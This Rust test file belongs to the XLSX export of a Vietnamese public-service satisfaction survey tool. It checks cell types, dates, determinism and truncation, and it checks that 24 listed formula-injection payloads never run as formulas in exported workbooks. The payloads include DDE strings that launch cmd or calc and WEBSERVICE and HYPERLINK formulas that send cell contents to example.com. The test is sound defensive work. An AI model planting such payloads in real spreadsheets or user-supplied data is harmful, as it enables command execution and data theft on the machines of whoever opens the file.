//! The workbook, read back by a reader written independently of what wrote it.

use crate::ballots::{answered, any_ballot, blank, shipped};
use calamine::{Data, Reader, Xlsx};
use proptest::strategy::{Strategy, ValueTree};
use proptest::test_runner::TestRunner;
use sipas_core::ballot::{Answer, Ballot, BallotId, DeviceId};
use sipas_core::campaign::Place;
use sipas_core::index::{Grouping, Options, report};
use sipas_core::questionnaire::Questionnaire;
use sipas_core::wording::Wording;
use sipas_formats::xlsx::{Naming, write};
use std::io::Cursor;

const VI: Naming<'_> = Naming {
    language: "vi",
    terms: &[],
    units: &[],
    fields: &[],
};

type Book = Xlsx<Cursor<Vec<u8>>>;

fn book(questionnaire: &Questionnaire, ballots: &[Ballot], naming: Naming<'_>) -> Book {
    let all: Vec<&Ballot> = ballots.iter().collect();
    let options = Options {
        by: vec![Grouping::Unit],
        ..Options::default()
    };
    let report = report(questionnaire, ballots, &options);
    let written = write(questionnaire, &all, &report, naming).unwrap();
    assert_eq!(written.export.left_out, []);
    Xlsx::new(Cursor::new(written.export.bytes)).unwrap()
}

/// The cell below a heading, `row` rows down from it.
fn cell(book: &mut Book, sheet: &str, heading: &str, row: u32) -> Data {
    let range = book.worksheet_range(sheet).unwrap();
    let heads: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(Data::to_string)
        .collect();
    let column = heads.iter().position(|head| head == heading);
    let column = column.unwrap_or_else(|| panic!("{heading}: {heads:?}")) as u32;
    range.get_value((row, column)).cloned().unwrap_or_default()
}

fn text(text: &str) -> Data {
    Data::String(text.to_owned())
}

#[test]
fn values_keep_their_types_and_accents() {
    let desk = shipped("sipas-desk");
    let mut one = answered(&desk, blank(&desk, 0x10), "access_1", "5");
    one = answered(&desk, one, "access_2", "na");
    one.context.device = DeviceId(0x0001_2345);
    one.context.unit = "gia-lai/duc-co".to_owned();
    one.comment = "Cán bộ nói: \"chờ chút\",\nrồi đi mất 😀".to_owned();
    // A number to careless eyes, and one a spreadsheet would write as 1E+16.
    let mut two = blank(&desk, 0x0000_1234_5678_9012);
    two.context.field = "2".to_owned();
    let units = [Place {
        code: "gia-lai/duc-co".to_owned(),
        label: Wording::new(vec![("vi".to_owned(), "Xã Đức Cơ".to_owned())]),
    }];
    let naming = Naming {
        units: &units,
        ..VI
    };
    let mut book = book(&desk, &[one, two], naming);
    assert_eq!(book.sheet_names(), ["Số liệu", "Nhãn", "Bảng mã", "Chỉ số"]);
    let data = "Số liệu";
    for (heading, row, expected) in [
        ("ballot_id", 1, text("0000000000000010")),
        ("ballot_id", 2, text("0000123456789012")),
        ("device_id", 1, text("00012345")),
        ("unit", 1, text("gia-lai/duc-co")),
        ("field", 2, text("2")),
        ("version", 1, Data::Float(1.0)),
        ("duration_secs", 1, Data::Float(95.0)),
        ("access_1", 1, Data::Float(5.0)),
        ("access_2", 1, text("na")),
        ("access_3", 1, Data::Empty),
        (
            "comment",
            1,
            text("Cán bộ nói: \"chờ chút\",\nrồi đi mất 😀"),
        ),
    ] {
        assert_eq!(
            cell(&mut book, data, heading, row),
            expected,
            "{heading} {row}"
        );
    }
    // 21 November 2026 is day 46347 of Excel's count; the clock of the device said 08:30.
    let Data::DateTime(sent) = cell(&mut book, data, "submitted_at", 1) else {
        panic!("not a date");
    };
    assert_eq!(sent.as_f64(), 46_347.0 + 8.5 / 24.0);
    for (heading, expected) in [
        ("Mã phiếu", text("0000000000000010")),
        ("Đơn vị", text("Xã Đức Cơ")),
        ("Hình thức thu phiếu", text("Điện thoại của người dân")),
        ("Nơi ngồi chờ có đủ chỗ", text("Rất hài lòng")),
        (
            "Trang thiết bị phục vụ người dân đầy đủ",
            text("Không áp dụng với tôi"),
        ),
    ] {
        assert_eq!(cell(&mut book, "Nhãn", heading, 1), expected, "{heading}");
    }
}

#[test]
fn figures_are_numbers() {
    let quick = shipped("quick");
    let ballots: Vec<Ballot> = (0..31)
        .map(|id| {
            let code = if id < 10 {
                "5"
            } else if id < 26 {
                "4"
            } else {
                "3"
            };
            answered(&quick, blank(&quick, id), "overall", code)
        })
        .collect();
    let mut book = book(&quick, &ballots, VI);
    for (heading, expected) in [
        ("Câu hài lòng", 26.0),
        ("Câu được tính", 31.0),
        ("Tỷ lệ", 26.0 / 31.0),
    ] {
        assert_eq!(cell(&mut book, "Chỉ số", heading, 1), Data::Float(expected));
    }
    let known = report(&quick, &ballots, &Options::default());
    let low = known.overall.interval.unwrap().low;
    assert_eq!(
        cell(&mut book, "Chỉ số", "Khoảng tin cậy từ", 1),
        Data::Float(low)
    );
    // The group by unit comes after all ballots' two rows.
    assert_eq!(cell(&mut book, "Chỉ số", "Nhóm", 3), text("gia-lai/duc-co"));
}

/// What spreadsheets and people's habits have been attacked with.
const ATTACKS: [&str; 24] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com?\"&A1,\"xem\")",
    "=WEBSERVICE(\"http://example.com/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://example.com?\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "+1+1",
    "+cmd|' /C notepad'!A1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "\"=1+1\"",
    "{=1+1}",
    "=\u{200b}1+1",
    "\u{ff1d}1+1",
    "#REF!",
    "http://example.com/=1+1",
];

#[test]
fn nothing_runs_as_a_formula_wherever_it_stands() {
    let plain = crate::files::text("../public/questionnaires/quick.json");
    for attack in ATTACKS {
        // A questionnaire's texts have braces for terms only.
        let label = attack.replace(['{', '}'], "");
        let quoted = serde_json::to_string(&label).unwrap();
        let changed = plain
            .replace("\"Đánh giá nhanh\"", &quoted)
            .replace("\"Rất hài lòng\"", &quoted)
            .replace("\"Ông/bà có ý kiến gì khác không?\"", &quoted)
            .replace("\"Điều khác\"", &quoted)
            .replace(
                "\"Ông/bà có hài lòng với việc giải quyết thủ tục lần này không?\"",
                &quoted,
            );
        let quick = sipas_formats::questionnaire::read(&changed).unwrap();
        let mut ballot = answered(&quick, blank(&quick, 1), "overall", "5");
        ballot.comment = attack.to_owned();
        ballot.reasons = 0b10_0000;
        let places = [Place {
            code: "gia-lai/duc-co".to_owned(),
            label: Wording::new(vec![("vi".to_owned(), attack.to_owned())]),
        }];
        let naming = Naming {
            units: &places,
            ..VI
        };
        let mut book = book(&quick, &[ballot], naming);
        for sheet in book.sheet_names() {
            assert!(!sheet.contains(attack));
            let formulas = book.worksheet_formula(&sheet).unwrap();
            assert_eq!(formulas.used_cells().count(), 0, "{attack:?} in {sheet}");
        }
        // Carriage returns are line breaks in XML; everything else comes back as typed.
        let is = |found: &Data, text: &str| match found {
            Data::String(found) => found.replace('\r', "\n") == text.replace('\r', "\n"),
            _ => false,
        };
        let typed = |found: &Data| is(found, attack);
        let found = cell(&mut book, "Số liệu", "comment", 1);
        assert!(typed(&found), "{attack:?}: {found:?}");
        let unit = cell(&mut book, "Nhãn", "Đơn vị", 1);
        assert!(typed(&unit), "{attack:?}: {unit:?}");
        let heads = book.worksheet_range("Nhãn").unwrap();
        let heads: Vec<Data> = heads.rows().next().unwrap().to_vec();
        assert_eq!(
            heads.iter().filter(|head| is(head, &label)).count(),
            2,
            "{attack:?}"
        );
    }
}

#[test]
fn the_same_ballots_give_the_same_bytes() {
    let desk = shipped("sipas-desk");
    let mut runner = TestRunner::deterministic();
    let ballots: Vec<Ballot> = (0..40)
        .map(|_| any_ballot(&desk).new_tree(&mut runner).unwrap().current())
        .collect();
    let all: Vec<&Ballot> = ballots.iter().collect();
    let report = report(&desk, &ballots, &Options::default());
    let once = write(&desk, &all, &report, VI).unwrap();
    let again = write(&desk, &all, &report, VI).unwrap();
    assert_eq!(once, again);
    assert_eq!(once.export.rows, 40);
    // Any moment of years 1 to 9998 stands there, as a date where Excel's calendar has it.
    let mut book: Book = Xlsx::new(Cursor::new(once.export.bytes)).unwrap();
    let range = book.worksheet_range("Số liệu").unwrap();
    for (row, ballot) in range.rows().skip(1).zip(&ballots) {
        let year = ballot.submitted_at.civil().year;
        match &row[9] {
            Data::DateTime(_) => assert!(year >= 1900, "{year}"),
            Data::String(text) => assert!(year <= 1900, "{text}"),
            other => panic!("{other:?}"),
        }
    }
}

#[test]
fn what_does_not_fit_is_told() {
    let desk = shipped("sipas-desk");
    let mut long = blank(&desk, 1);
    long.comment = "ế😀".repeat(20_000);
    let mut odd = blank(&desk, 2);
    odd.answers.pop();
    let report = report(&desk, [&long], &Options::default());
    let written = write(&desk, &[&long, &odd], &report, VI).unwrap();
    assert_eq!((written.export.rows, written.shortened), (1, 1));
    assert_eq!(written.export.left_out[0].id, BallotId(2));
    let mut book: Book = Xlsx::new(Cursor::new(written.export.bytes)).unwrap();
    let Data::String(kept) = cell(&mut book, "Số liệu", "comment", 1) else {
        panic!("no text");
    };
    assert!(long.comment.starts_with(&kept));
    assert!((32_766..=32_767).contains(&kept.encode_utf16().count()));
}

#[test]
fn levels_that_are_no_numbers_stay_texts() {
    let text_codes = crate::files::text("../public/questionnaires/quick.json")
        .replace("\"code\": \"5\"", "\"code\": \"05\"")
        .replace("\"code\": \"4\"", "\"code\": \"t4\"");
    let quick = sipas_formats::questionnaire::read(&text_codes).unwrap();
    let mut ballot = blank(&quick, 1);
    ballot.answers[0] = Answer::Level(4);
    let mut book = book(&quick, &[ballot], VI);
    assert_eq!(cell(&mut book, "Số liệu", "overall", 1), text("05"));
}
